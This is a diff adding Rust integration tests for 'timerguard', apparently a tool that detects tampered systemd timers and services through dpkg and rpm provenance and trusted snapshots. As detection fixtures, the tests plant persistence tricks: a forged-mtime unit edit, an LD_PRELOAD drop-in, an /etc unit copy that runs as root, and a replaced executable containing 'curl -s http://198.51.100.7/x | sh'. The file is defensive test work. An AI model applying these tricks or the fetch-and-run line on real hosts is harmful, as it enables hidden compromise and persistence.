@@ -1,0 +1,295 @@
+//! Package provenance on real package databases: a debootstrapped Debian root (dpkg)
+//! and an RPM database made by Debian's `rpm` from packages built with `rpmbuild` — not
+//! hand-written copies of the formats. One planted case of each: a generator no package
+//! owns, a packaged unit changed with its mtime forged, a root-run executable changed, a
+//! copy of a packaged unit in /etc that changes who runs what.
+
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+use std::process::Command;
+
+use serde_json::Value;
+
+use crate::common::*;
+
+fn sh(args: &[&str]) {
+    let o = Command::new(args[0]).args(&args[1..]).output().unwrap();
+    assert!(
+        o.status.success(),
+        "{args:?}: {}{}",
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr)
+    );
+}
+
+fn check(root: &Path) -> Value {
+    let o = Command::new(env!("CARGO_BIN_EXE_timerguard"))
+        .arg("--root")
+        .arg(root)
+        .args(["check", "--format", "json", "--fail-on", "info"])
+        .output()
+        .unwrap();
+    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&o.stderr)))
+}
+
+fn found(r: &Value, prefix: &str) -> Vec<(String, String, String)> {
+    let mut v: Vec<(String, String, String)> = r["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["policy"].as_str().unwrap().starts_with(prefix))
+        .map(|f| {
+            let s = |k: &str| f[k].as_str().unwrap().to_string();
+            (s("policy"), s("rule"), s("subject"))
+        })
+        .collect();
+    v.sort();
+    v
+}
+
+fn want(v: &[(&str, &str, &str)]) -> Vec<(String, String, String)> {
+    v.iter().map(|(a, b, c)| (a.to_string(), b.to_string(), c.to_string())).collect()
+}
+
+#[test]
+fn dpkg_provenance_on_a_debootstrapped_root() {
+    let Ok(base) = std::env::var("TIMERGUARD_DEBIAN_ROOT") else {
+        skip("TIMERGUARD_DEBIAN_ROOT not set (scripts/test.sh builds one)");
+        return;
+    };
+    if !is_root() {
+        skip("copying the root keeps owners only as root");
+        return;
+    }
+    let d = tempfile::tempdir().unwrap();
+    let root = d.path().join("r");
+    sh(&["cp", "-a", &base, root.to_str().unwrap()]);
+    let clean = check(&root);
+    assert!(found(&clean, "TG5").is_empty(), "every vendor file is packaged and intact: {:?}", found(&clean, "TG5"));
+    let facts: Value = serde_json::from_slice(
+        &Command::new(env!("CARGO_BIN_EXE_timerguard")).arg("--root").arg(&root).arg("facts").output().unwrap().stdout,
+    )
+    .unwrap();
+    assert_eq!(facts["packages"]["manager"], "dpkg");
+    let p = facts["provenance"].as_array().unwrap();
+    let lr = p.iter().find(|f| f["path"] == "/usr/lib/systemd/system/logrotate.timer").unwrap();
+    assert_eq!((lr["package"].as_str(), lr["digest"].as_str()), (Some("logrotate"), Some("match")), "{lr}");
+
+    // A generator nobody packaged.
+    let g = root.join("usr/lib/systemd/system-generators/zz-persist");
+    std::fs::write(&g, "#!/bin/sh\n").unwrap();
+    std::fs::set_permissions(&g, std::fs::Permissions::from_mode(0o755)).unwrap();
+    // A packaged unit changed, its mtime put back.
+    let svc = root.join("usr/lib/systemd/system/logrotate.service");
+    let mtime = std::fs::metadata(&svc).unwrap().modified().unwrap();
+    let mut text = std::fs::read_to_string(&svc).unwrap();
+    text.push_str("ExecStartPost=/usr/bin/true\n");
+    std::fs::write(&svc, text).unwrap();
+    std::fs::File::options().write(true).open(&svc).unwrap().set_modified(mtime).unwrap();
+    assert_eq!(std::fs::metadata(&svc).unwrap().modified().unwrap(), mtime, "the mtime tells nothing");
+    // A full copy in /etc of a packaged unit, running its command as root.
+    let vendor = std::fs::read_to_string(root.join("usr/lib/systemd/system/man-db.service")).unwrap();
+    let copy: String = vendor.lines().filter(|l| !l.starts_with("User=")).map(|l| format!("{l}\n")).collect();
+    std::fs::write(root.join("etc/systemd/system/man-db.service"), copy).unwrap();
+
+    let r = check(&root);
+    assert_eq!(
+        found(&r, "TG5"),
+        want(&[
+            ("TG501", "unpackaged", "/usr/lib/systemd/system-generators/zz-persist"),
+            ("TG502", "modified", "/usr/lib/systemd/system/logrotate.service"),
+            ("TG503", "security-settings-changed", "/etc/systemd/system/man-db.service"),
+        ])
+    );
+    let diff = r["findings"].as_array().unwrap().iter().find(|f| f["policy"] == "TG503").unwrap();
+    let msg = diff["message"].as_str().unwrap();
+    assert!(msg.contains("User: man -> (unset)") && msg.contains("package man-db"), "{msg}");
+}
+
+#[test]
+fn rpm_provenance_from_a_real_rpmdb() {
+    if !is_root() {
+        skip("rpm --root needs root");
+        return;
+    }
+    if Command::new("rpmbuild").arg("--version").output().is_err() {
+        skip("rpmbuild not installed (scripts/test.sh installs rpm)");
+        return;
+    }
+    let w = tempfile::tempdir().unwrap();
+    let src = w.path().join("src");
+    std::fs::create_dir_all(&src).unwrap();
+    std::fs::write(src.join("acme.timer"), timer("daily")).unwrap();
+    std::fs::write(src.join("acme.service"), "[Service]\nExecStart=/usr/bin/acme-job\n").unwrap();
+    std::fs::write(src.join("acme-job"), "#!/bin/sh\necho hi\n").unwrap();
+    let spec = w.path().join("acme.spec");
+    std::fs::write(
+        &spec,
+        "Name: acme\nVersion: 1.0\nRelease: 1\nSummary: t\nLicense: MIT\nBuildArch: noarch\n%description\nt\n%install\n\
+         mkdir -p %{buildroot}/usr/lib/systemd/system %{buildroot}/usr/bin\n\
+         install -m 0644 %{_sourcedir}/acme.timer %{buildroot}/usr/lib/systemd/system/acme.timer\n\
+         install -m 0644 %{_sourcedir}/acme.service %{buildroot}/usr/lib/systemd/system/acme.service\n\
+         install -m 0755 %{_sourcedir}/acme-job %{buildroot}/usr/bin/acme-job\n\
+         %files\n/usr/lib/systemd/system/acme.timer\n/usr/lib/systemd/system/acme.service\n/usr/bin/acme-job\n",
+    )
+    .unwrap();
+    let top = w.path().join("top");
+    sh(&[
+        "rpmbuild",
+        "-bb",
+        "--quiet",
+        "--define",
+        &format!("_topdir {}", top.display()),
+        "--define",
+        &format!("_sourcedir {}", src.display()),
+        spec.to_str().unwrap(),
+    ]);
+    let fx = Fx::new();
+    fx.debian_layout();
+    std::fs::create_dir_all(fx.host_path("/usr/lib/systemd/system/timers.target.wants")).unwrap();
+    let r = fx.path().to_str().unwrap();
+    sh(&["rpm", "--root", r, "--dbpath", "/var/lib/rpm", "--initdb"]);
+    let pkg = top.join("RPMS/noarch/acme-1.0-1.noarch.rpm");
+    sh(&[
+        "rpm",
+        "-i",
+        "--root",
+        r,
+        "--dbpath",
+        "/var/lib/rpm",
+        "--nodeps",
+        "--noscripts",
+        "--nosignature",
+        pkg.to_str().unwrap(),
+    ]);
+    fx.link("/etc/systemd/system/timers.target.wants/acme.timer", "/usr/lib/systemd/system/acme.timer");
+    assert!(fx.host_path("/var/lib/rpm/rpmdb.sqlite").exists());
+    let clean = check(fx.path());
+    assert!(found(&clean, "TG5").is_empty(), "{:?}", found(&clean, "TG5"));
+    let facts: Value = serde_json::from_slice(
+        &Command::new(env!("CARGO_BIN_EXE_timerguard")).args(["--root", r, "facts"]).output().unwrap().stdout,
+    )
+    .unwrap();
+    assert_eq!((facts["packages"]["manager"].as_str(), facts["packages"]["packages"].as_u64()), (Some("rpm"), Some(1)));
+    let job =
+        facts["provenance"].as_array().unwrap().iter().find(|f| f["path"] == "/usr/bin/acme-job").unwrap().clone();
+    assert_eq!(
+        (job["package"].as_str(), job["digest"].as_str(), job["role"].as_str()),
+        (Some("acme"), Some("match"), Some("executable"))
+    );
+
+    fx.file("/usr/bin/acme-job", "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n").mode("/usr/bin/acme-job", 0o755);
+    fx.file("/usr/lib/systemd/system/evil.timer", &timer("hourly"));
+    let r = check(fx.path());
+    assert_eq!(
+        found(&r, "TG5"),
+        want(&[
+            ("TG501", "unpackaged", "/usr/lib/systemd/system/evil.timer"),
+            ("TG502", "modified", "/usr/bin/acme-job"),
+        ])
+    );
+    let f = r["findings"].as_array().unwrap().iter().find(|f| f["policy"] == "TG502").unwrap().clone();
+    assert_eq!(f["severity"], "critical", "a root-run executable changed: {f}");
+}
+
+/// A snapshot of a real Debian root, one planted change of each kind, exactly those
+/// reported — from the root and, centrally, from its facts file.
+#[test]
+fn trusted_snapshot_reports_exactly_what_changed() {
+    let Ok(base) = std::env::var("TIMERGUARD_DEBIAN_ROOT") else {
+        skip("TIMERGUARD_DEBIAN_ROOT not set (scripts/test.sh builds one)");
+        return;
+    };
+    if !is_root() {
+        skip("copying the root keeps owners only as root");
+        return;
+    }
+    let d = tempfile::tempdir().unwrap();
+    let root = d.path().join("r");
+    sh(&["cp", "-a", &base, root.to_str().unwrap()]);
+    let tg = |args: &[&str]| {
+        Command::new(env!("CARGO_BIN_EXE_timerguard")).arg("--root").arg(&root).args(args).output().unwrap()
+    };
+    let snap = d.path().join("golden.json");
+    let o = tg(&["snapshot", "--output", snap.to_str().unwrap()]);
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    let unchanged = tg(&["check", "--trusted", snap.to_str().unwrap(), "--format", "json"]);
+    let r: Value = serde_json::from_slice(&unchanged.stdout).unwrap();
+    assert!(found(&r, "TG510").is_empty(), "nothing changed: {:?}", found(&r, "TG510"));
+
+    let put = |rel: &str, s: &str| {
+        let p = root.join(rel);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(p, s).unwrap();
+    };
+    // New: a timer and its service, enabled.
+    put("etc/systemd/system/sync.timer", &timer("hourly"));
+    put("etc/systemd/system/sync.service", "[Service]\nExecStart=/usr/bin/true\n");
+    std::os::unix::fs::symlink(
+        "/etc/systemd/system/sync.timer",
+        root.join("etc/systemd/system/timers.target.wants/sync.timer"),
+    )
+    .unwrap();
+    // Changed: a drop-in adds an environment to a packaged service.
+    put("etc/systemd/system/logrotate.service.d/env.conf", "[Service]\nEnvironment=LD_PRELOAD=/opt/x.so\n");
+    // Changed: a timer's schedule.
+    let e2 = root.join("usr/lib/systemd/system/e2scrub_all.timer");
+    let text = std::fs::read_to_string(&e2).unwrap().replace("OnCalendar=Sun *-*-* 03:10:00", "OnCalendar=*:0/5");
+    std::fs::write(&e2, text).unwrap();
+    // Changed: a timer disabled.
+    std::fs::remove_file(root.join("etc/systemd/system/timers.target.wants/fstrim.timer")).unwrap();
+    // Gone: a timer (its file and its enablement link) and its service.
+    for p in [
+        "usr/lib/systemd/system/dpkg-db-backup.timer",
+        "usr/lib/systemd/system/dpkg-db-backup.service",
+        "etc/systemd/system/timers.target.wants/dpkg-db-backup.timer",
+    ] {
+        std::fs::remove_file(root.join(p)).unwrap();
+    }
+
+    let after = |args: &[&str]| -> Vec<(String, String, String)> {
+        let o = Command::new(env!("CARGO_BIN_EXE_timerguard")).args(args).output().unwrap();
+        let r: Value =
+            serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&o.stderr)));
+        found(&r, "TG510")
+    };
+    let s = snap.to_str().unwrap();
+    let got = after(&["--root", root.to_str().unwrap(), "check", "--trusted", s, "--format", "json"]);
+    let expected = want(&[
+        ("TG510", "changed", "e2scrub_all.timer (system)"),
+        ("TG510", "changed", "fstrim.timer (system)"),
+        ("TG510", "changed", "logrotate.service (system)"),
+        ("TG510", "gone", "dpkg-db-backup.service (system)"),
+        ("TG510", "gone", "dpkg-db-backup.timer (system)"),
+        ("TG510", "new", "sync.service (system)"),
+        ("TG510", "new", "sync.timer (system)"),
+    ]);
+    assert_eq!(got, expected);
+    // Centrally, from the host's facts.
+    let facts = d.path().join("host.json");
+    std::fs::write(&facts, tg(&["facts"]).stdout).unwrap();
+    assert_eq!(after(&["check", "--facts", facts.to_str().unwrap(), "--trusted", s, "--format", "json"]), expected);
+    let o = tg(&["check", "--trusted", s, "--format", "json"]);
+    let r: Value = serde_json::from_slice(&o.stdout).unwrap();
+    let msg = |subject: &str| {
+        r["findings"].as_array().unwrap().iter().find(|f| f["subject"] == subject).unwrap()["message"]
+            .as_str()
+            .unwrap()
+            .to_string()
+    };
+    assert!(
+        msg("logrotate.service (system)").contains("setting Service.Environment: (none) -> LD_PRELOAD=/opt/x.so"),
+        "{}",
+        msg("logrotate.service (system)")
+    );
+    assert!(
+        msg("e2scrub_all.timer (system)").contains("setting Timer.OnCalendar: Sun *-*-* 03:10:00 -> *:0/5"),
+        "{}",
+        msg("e2scrub_all.timer (system)")
+    );
+    assert!(
+        msg("fstrim.timer (system)").contains("activation: enabled (runs: yes) -> "),
+        "{}",
+        msg("fstrim.timer (system)")
+    );
+}
